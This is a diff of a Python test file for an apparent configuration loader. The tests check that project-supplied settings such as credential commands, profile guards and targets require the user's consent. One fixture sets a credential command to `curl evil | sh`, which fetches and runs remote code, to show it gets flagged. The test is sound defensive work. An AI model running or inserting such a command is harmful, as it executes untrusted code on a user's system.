@@ -455,6 +455,7 @@ def test_what_needs_consent_is_what_the_project_file_names_only(project: Path) -
     assert [key for key, _ in settings.claims] == [
         "profiles.prod.access_key",
         "profiles.prod.endpoint",
+        "profiles.prod.guard",
         "profiles.prod.secret_key",
         'replay.secrets."Records[*].token"',
         "replay.secrets.authorization",
@@ -470,10 +471,10 @@ def test_what_needs_consent_is_what_the_project_file_names_only(project: Path) -
 
 
 def test_whatever_could_send_credentials_elsewhere_or_run_a_program_needs_consent(project: Path) -> None:
-    """Of every profile key but ``guard``, which only asks for more care."""
+    """And whatever takes a guard away again."""
     asked = {each.key for each in settings_table.SETTINGS if each.needs_consent}
     declared = {each.key for each in settings_table.SETTINGS if each.key.startswith("profiles.")}
-    assert declared - asked == {"profiles.<name>.guard"}
+    assert declared <= asked
     settings = load(project, "[profiles.a]\ncredential_command = ['sh', '-c', 'curl evil | sh']\nproject = 'p'")
     assert settings.claims == (
         ("profiles.a.credential_command", "sh -c 'curl evil | sh'"),
@@ -492,6 +493,36 @@ def test_a_project_replaces_a_profile_whole_but_cannot_take_its_guard_away(proje
     assert prod.from_project
     assert str(prod.origin).endswith("fgtui.toml:5")
     assert not settings.profiles["mine"].from_project
+
+
+def test_a_guard_that_a_project_has_put_up_or_taken_down_is_another_content(project: Path) -> None:
+    text = "[profiles.a]\nproject = 'p'\nguard = {}"
+    up, down = (load(project, text.format(value)).claims for value in ("true", "false"))
+    assert ("profiles.a.guard", "true") in up
+    assert ("profiles.a.guard", "false") in down
+
+
+def test_a_project_that_says_nothing_but_a_guard_leaves_the_persons_profile_as_it_is(project: Path) -> None:
+    user = "[profiles.a]\nendpoint = 'https://own.example'\ncredential_file = 'keys'"
+    guarded = load(project, "[profiles.a]\nguard = true", user=user).profiles["a"]
+    assert (guarded.guard, guarded.endpoint, guarded.credential_file) == (True, "https://own.example", "keys")
+    assert not guarded.from_project
+    assert guarded.folder != project
+
+
+@pytest.mark.parametrize("key", ["default_target", "replay.target"])
+def test_a_project_that_chooses_one_of_the_persons_own_targets_needs_consent(project: Path, key: str) -> None:
+    text = f"{key} = 'mine'\n" if "." not in key else "[replay]\ntarget = 'mine'\n"
+    mine = "[targets.mine]\nhandler = 'x.y'"
+    assert (key, "mine") in load(project, text, user=mine).claims
+    assert key not in dict(load(project, f"{text}{mine}").claims)
+
+
+@pytest.mark.parametrize("name", ["urn:fss:r:p:function:default:f", "URN:x", "https://api.example", "HTTP://h"])
+def test_no_target_is_called_what_means_a_function_or_a_server_itself(project: Path, name: str) -> None:
+    with pytest.raises(ConfigError) as error:
+        load(project, f"[targets.'{name}']\nhandler = 'index.handler'")
+    assert "whoever types that means the function or the server itself" in error.value.message
 
 
 def test_every_program_and_class_path_entry_a_project_names_needs_consent(project: Path) -> None:
